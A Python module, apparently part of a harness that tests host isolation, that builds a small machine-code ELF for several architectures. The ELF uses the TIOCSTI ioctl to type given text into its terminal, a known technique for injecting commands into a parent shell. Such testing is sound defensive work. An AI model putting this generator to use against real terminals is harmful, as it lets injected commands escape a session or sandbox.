"""A static program that types into the terminal that it is run at (TIOCSTI), as machine code.

A session has nothing but a shell to run, and that cannot. It exits with what the last call came to: 0, or an
error's number (on Linux, where a stand-in plays FreeBSD, its negative).
"""

from __future__ import annotations

import errno
import platform
import struct

from layout.host.attacks import programs

_IOCTL, _EXIT, _REQUEST = 54, 1, 0x80017472
_LINUX = 0x5412
_START = 0x400000 + 64 + 56
"""Where the code of `programs.elf` lies."""
_MACHINES = {
    "amd64": 62,
    "x86_64": 62,
    "arm64": 183,
    "aarch64": 183,
    "riscv": 243,
    "riscv64": 243,
}


def program(text: bytes) -> bytes:
    """Return the program that types `text`; b"" where no machine code is known for this machine."""
    machine = _MACHINES.get(platform.machine())
    if machine is None:
        return b""
    system = platform.system()
    if system == "Linux":
        numbers = (16, 60, _LINUX) if machine == 62 else (29, 93, _LINUX)
    else:
        numbers = (_IOCTL, _EXIT, _REQUEST)
    # The text lies behind the code, whose size does not depend on where that is.
    size = len(_code(machine, system, numbers, [_START] * len(text)))
    places = [_START + size + index for index in range(len(text))]
    return programs.elf(machine, _code(machine, system, numbers, places) + text)


def error(status: int) -> str:
    """Return the name of the error that an exit status of the program stands for."""
    return errno.errorcode.get(status if status < 128 else 256 - status, str(status))


def _code(machine: int, system: str, numbers: tuple[int, int, int], places: list[int]) -> bytes:
    """Return ioctl(0, request, place) for each place, then exit(2) of the last result."""
    ioctl, leave, request = numbers
    if machine == 62:
        calls = b"".join(
            b"\x31\xff\xbe" + struct.pack("<I", request)  # xor edi, edi; mov esi, request
            + b"\xba" + struct.pack("<I", place)  # mov edx, place
            + b"\xb8" + struct.pack("<I", ioctl) + b"\x0f\x05"  # mov eax, ioctl; syscall
            for place in places
        )  # fmt: skip
        return calls + b"\x89\xc7\xb8" + struct.pack("<I", leave) + b"\x0f\x05"
    if machine == 183:
        words = [
            word
            for place in places
            for word in (*_arm(0, 0), *_arm(1, request), *_arm(2, place), *_arm(8, ioctl), 0xD4000001)
        ]
        words += [*_arm(8, leave), 0xD4000001]
    else:
        number = 17 if system == "Linux" else 5  # a7; FreeBSD takes t0
        words = [
            word
            for place in places
            for word in (
                *_riscv(10, 0),
                *_riscv(11, request),
                *_riscv(12, place),
                *_riscv(number, ioctl),
                0x73,
            )
        ]
        words += [*_riscv(number, leave), 0x73]
    return struct.pack(f"<{len(words)}I", *words)


def _arm(register: int, value: int) -> tuple[int, int]:
    """Return movz and movk of a value."""
    low, high = value & 0xFFFF, value >> 16
    return 0xD2800000 | low << 5 | register, 0xF2A00000 | high << 5 | register


def _riscv(register: int, value: int) -> tuple[int, int]:
    """Return lui and addi of a value."""
    high, low = (value + 0x800) >> 12 & 0xFFFFF, value & 0xFFF
    return high << 12 | register << 7 | 0x37, low << 20 | register << 15 | register << 7 | 0x13
